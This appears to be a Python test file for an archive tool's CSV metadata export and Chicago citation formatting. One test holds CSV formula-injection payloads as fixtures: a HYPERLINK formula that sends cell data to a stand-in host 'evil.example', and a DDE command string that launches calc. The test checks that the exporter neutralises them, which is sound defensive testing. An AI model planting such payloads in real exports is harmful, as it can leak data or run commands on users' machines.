"""CSV metadata export and Chicago citations."""

from __future__ import annotations

import csv
from pathlib import Path

from app.archive import Archive
from app.citation import chicago, cite
from app.export.csv_export import COLUMNS, export_csv
from app.export.dates import human_date
from app.model import Article
from app.samples import add_samples


def test_csv_rows(archive: Archive, tmp_path: Path) -> None:
    add_samples(archive)
    out = tmp_path / "meta.csv"
    export_csv(archive, archive.ids(), out)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(COLUMNS) and len(rows) == 3
    ko = next(r for r in rows if r["language"] == "ko")
    assert ko["title"].startswith("서울도서관") and ko["place"] == "서울" and ko["photos"] == "1"
    assert rows[2]["authors"] == "Maren Holt" and rows[2]["tags"] == "samples"


def test_chicago() -> None:
    article = Article(title="S. Korean FM vows all-out efforts", source="The Korea Herald", published="2020-07-02",
                      url="https://example.com/a", authors=["Ahn Sung-mi", "Kim Ji-hoon", "Lee Ha-na"], id=4)
    c = chicago(article, "2024-03-05T10:00:00Z")
    assert c.text == ("Ahn Sung-mi, Kim Ji-hoon, and Lee Ha-na. “S. Korean FM vows all-out efforts.” The Korea Herald, "
                      "July 2, 2020. https://example.com/a (accessed March 5, 2024).")
    assert "<i>The Korea Herald</i>" in c.html and "*The Korea Herald*" in c.markdown
    question = chicago(Article(title="Who pays?", source="Ledger", published="2023-11"), "")
    assert question.text == "“Who pays?” Ledger, November 2023."
    assert human_date("2020") == "2020" and human_date("2020-13") == "2020" and human_date("") == ""


def test_cite_uses_the_capture_date(archive: Archive) -> None:
    add_samples(archive)
    c = cite(archive, 3)
    assert c.text.startswith("Maren Holt. “Harbour town opens its newspaper morgue to the public.” The Coastal Ledger, "
                             "November 14, 2023. https://ledger.example/news/2023/11/14/harbour-morgue (accessed ")


def test_csv_neutralises_formula_cells(archive: Archive, tmp_path: Path) -> None:
    """OWASP's CSV injection rule: a cell starting with = + - @ tab or CR gets a leading quote."""
    add_samples(archive)
    evil = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "source": "@SUM(1+1)*cmd|' /C calc'!A0",
            "place": "+1+1", "subtitle": "-2+3", "url": "\tTAB", "language": "\r=1"}
    archive.update(1, **evil, authors=["=1+1", "Maren Holt"])
    out = tmp_path / "meta.csv"
    export_csv(archive, [1, 2], out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for key, value in evil.items():
        assert rows[0][key] == "'" + value
    assert rows[0]["authors"] == "'=1+1; Maren Holt" and rows[0]["id"] == "1"
    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for v in row.values())
